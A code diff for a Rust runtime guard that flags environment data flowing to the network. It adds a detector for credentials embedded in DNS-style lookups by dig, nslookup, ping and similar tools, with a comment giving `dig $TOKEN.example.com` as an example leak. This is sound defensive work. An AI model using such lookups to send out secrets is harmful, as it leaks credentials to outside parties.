@@ -1,5 +1,6 @@
 //! Where data comes from and where it ends.
 
+use super::said::is_credential;
 use crate::runtime::guards::generated::{REPUTED_HOSTS, SECRET_FILES};
 use crate::runtime::guards::look::Look;
 use crate::runtime::model::{Access, Flow, Origin, Sink};
@@ -32,9 +33,17 @@ pub(super) fn environment_to_network(look: &Look<'_>) -> bool {
             name.is_empty()
                 || matches!(name.as_str(), "env" | "printenv" | "set")
                 || is_strangers_secret(look, name, flow.by)
+                || is_looked_up(look, name, flow.by)
         }
         Origin::File(_) | Origin::Network(_) | Origin::Decoded(_) | Origin::Output(_) => false,
     })
+}
+
+/// A credential in a name that is looked up: `dig $TOKEN.example.com` tells it to whoever answers.
+fn is_looked_up(look: &Look<'_>, name: &str, by: usize) -> bool {
+    let program = look.facts.commands.get(by).map(|command| command.program.as_str());
+    let looks_up = matches!(program, Some("dig" | "nslookup" | "host" | "drill" | "ping" | "whois"));
+    looks_up && is_credential(name)
 }
 
 /// Credentials whose name says whose they are, and whoever may be told them.
